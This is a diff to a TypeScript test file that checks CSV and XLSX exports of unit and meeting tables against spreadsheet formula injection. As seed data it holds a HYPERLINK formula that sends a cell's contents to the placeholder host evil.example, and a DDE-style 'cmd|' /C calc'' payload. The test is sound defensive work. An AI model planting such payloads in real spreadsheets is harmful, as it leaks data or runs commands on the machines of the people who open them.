@@ -10,7 +10,14 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import { createTestDb, type TestDb } from '../support/db.ts';
 import { buildTestApp, TestClock, testDeps } from '../support/app.ts';
-import { makeMember, makeOrgTree, makeSecretary, makeUserWithRole } from '../factories/index.ts';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { makeMember, makeOrg, makeOrgTree, makeSecretary, makeUserWithRole } from '../factories/index.ts';
+import { exportUnitTable } from '../../api/console/export-unit-table.ts';
+import { exportMeetingsTable } from '../../api/console/export-meetings-table.ts';
+import { scheduleMeeting } from '../../api/meetings/schedule-meeting.ts';
+import { openMeeting } from '../../api/meetings/open-meeting.ts';
+import { closeMeeting } from '../../api/meetings/close-meeting.ts';
+import type { TableFile } from '../../api/http/table-file.ts';
 import { createBots } from '../../bot/bots.ts';
 import { readMemberSheet } from '../../api/members/member-sheet.ts';
 import { DOCUMENT_LIMITS } from '../../api/extract/document-bounds.ts';
@@ -275,7 +282,60 @@ describe('security headers', () => {
   });
 });
 
+/** Every cell of a CSV or XLSX export: none may start a formula, none may be a formula cell. */
+async function exportedCells(file: TableFile): Promise<(string | number)[]> {
+  if (file.filename.endsWith('.csv')) {
+    const rows = parseCsv(file.data.toString('utf8').replace(/^\uFEFF/, '')) as string[][];
+    return rows.flat();
+  }
+  const book = new ExcelJS.Workbook();
+  await book.xlsx.load(file.data as unknown as ArrayBuffer);
+  const cells: (string | number)[] = [];
+  book.worksheets[0].eachRow((row) =>
+    row.eachCell((c) => {
+      expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
+      cells.push(c.value as string | number);
+    }),
+  );
+  return cells;
+}
+
 describe('spreadsheet exports', () => {
+  it("every export goes through one writer: the console's units and meetings tables neutralise formulas", async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
+    const sum = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const evil = await makeOrg(t.db, 'cell', tree.committee, hyperlink);
+    await makeOrg(t.db, 'cell', tree.committee, sum);
+    await makeMember(t.db, evil);
+    const evilSecretary = await makeSecretary(t.db, evil);
+    const meeting = await scheduleMeeting(testDeps(t.db, clock), evilSecretary.principal, {
+      cellId: evil.id,
+      kind: 'regular',
+      startsAt: clock.now(),
+      mode: 'in_person',
+    });
+    await openMeeting(testDeps(t.db, clock), evilSecretary.principal, meeting.id);
+    await closeMeeting(testDeps(t.db, clock), evilSecretary.principal, meeting.id, { confirm: true });
+    const committee = await makeUserWithRole(t.db, tree.committee, 'committee');
+    const deps = testDeps(t.db, clock);
+    for (const format of ['csv', 'xlsx'] as const) {
+      for (const file of [
+        await exportUnitTable(deps, committee.principal, tree.committee.id, format),
+        await exportMeetingsTable(deps, committee.principal, tree.committee.id, '2026-03', format),
+      ]) {
+        const cells = await exportedCells(file);
+        const texts = cells.filter((c): c is string => typeof c === 'string');
+        expect(texts, file.filename).toContain(`'${hyperlink}`);
+        for (const c of texts) expect(c, file.filename).not.toMatch(/^[=+\-@\t\r]/);
+        if (file.filename.startsWith('so-lieu')) {
+          expect(texts).toContain(`'${sum}`);
+          // Figures stay numbers (a column of counts, not of text).
+          if (format === 'xlsx') expect(cells.filter((c) => typeof c === 'number').length).toBeGreaterThan(0);
+        }
+      }
+    }
+  });
+
   it('a name or phone that starts a formula is exported as text, and imports back as typed', async () => {
     const evilName = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
     const member = await makeMember(t.db, tree.cellB, {
